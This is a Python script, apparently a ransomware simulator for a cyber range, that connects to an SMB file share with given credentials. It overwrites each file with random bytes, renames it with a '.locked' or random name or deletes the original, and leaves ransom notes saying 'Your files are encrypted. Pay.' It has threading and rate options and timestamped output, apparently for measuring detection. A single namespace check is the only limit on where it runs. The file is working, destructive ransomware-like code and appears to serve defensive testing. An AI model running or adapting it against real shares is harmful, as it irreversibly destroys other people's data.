#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""ransom.py HOST USER PASSWORD SHARE DIRECTORY [OPTION…]: what ransomware does to a share, at --rate files a second.
Each file is read, overwritten with noise of the same length and, unless --in-place, renamed.
    --ext EXT        the new extension
    --random-names   the new name is random, without one
    --replace        written anew as NAME.EXT, the old file deleted
    --first N        only the first N bytes of each file; --every K: only each K-th 4,096
    --folders        the files of the folders below DIRECTORY
    --note           a note, in each folder
    --at-once N      by N threads, each with a connection of its own
Prints how many, and the time of each in seconds since the epoch. Only inside a network namespace of the range."""
import argparse
import os
import subprocess
import sys
import threading
import time

from impacket.smbconnection import SMBConnection

if not subprocess.run(["ip", "netns", "identify", str(os.getpid())], capture_output=True, text=True).stdout.strip():
    sys.exit("not in a namespace of the range")
p = argparse.ArgumentParser()
for a in ("host", "user", "password", "share", "directory"):
    p.add_argument(a)
p.add_argument("--rate", type=float, default=20)
p.add_argument("--ext", default=".locked")
for a in ("--in-place", "--note", "--random-names", "--replace", "--folders"):
    p.add_argument(a, action="store_true")
p.add_argument("--first", type=int, default=0)
p.add_argument("--every", type=int, default=1)
p.add_argument("--at-once", type=int, default=1)
a = p.parse_args()


def connect():
    c = SMBConnection(a.host, a.host)
    c.login(a.user, a.password, "CORP")
    return c, c.connectTree(a.share)


def listed(folder):
    return [f for f in first.listPath(a.share, folder + "\\*") if f.get_longname() not in (".", "..")]


def noise(c, tree, f, to, size):
    block = 4096 if a.every > 1 else 32768
    for at in range(0, size, block * a.every):
        data = c.readFile(tree, f, at, min(block, size - at))
        c.writeFile(tree, to, os.urandom(len(data)), at)


def encrypt(c, tree, path):
    f = c.openFile(tree, path)
    size = c.queryInfo(tree, f)["EndOfFile"]
    size = min(size, a.first or size)
    to = c.createFile(tree, path + a.ext) if a.replace else f
    noise(c, tree, f, to, size)
    c.closeFile(tree, f)
    if a.replace:
        c.closeFile(tree, to)
        c.deleteFile(a.share, path)
    elif a.random_names:
        c.rename(a.share, path, path.rsplit("\\", 1)[0] + "\\" + os.urandom(12).hex())
    elif not a.in_place:
        c.rename(a.share, path, path + a.ext)
    sys.stdout.write(f"{time.time():.6f} {path}\n")  # one write: threads
    sys.stdout.flush()


def note(folder):
    n = first.createFile(first_tree, folder + "\\HOW_TO_DECRYPT.txt")
    first.writeFile(first_tree, n, b"Your files are encrypted. Pay.\n")
    first.closeFile(first_tree, n)


first, first_tree = connect()
folders = [a.directory + "\\" + f.get_longname() for f in listed(a.directory) if f.is_directory()] if a.folders else [a.directory]
paths = sorted(d + "\\" + f.get_longname() for d in folders for f in listed(d) if not f.is_directory())
begun = time.time()


def work(which, c, tree):
    noted = set()
    for n in range(which, len(paths), a.at_once):
        time.sleep(max(0, begun + n / a.rate - time.time()))
        encrypt(c, tree, paths[n])
        folder = paths[n].rsplit("\\", 1)[0]
        if a.note and which == 0 and folder not in noted:
            noted.add(folder)
            note(folder)


threads = [threading.Thread(target=work, args=(i, *connect())) for i in range(1, a.at_once)]
for t in threads:
    t.start()
work(0, first, first_tree)
for t in threads:
    t.join()
print(len(paths), "files")
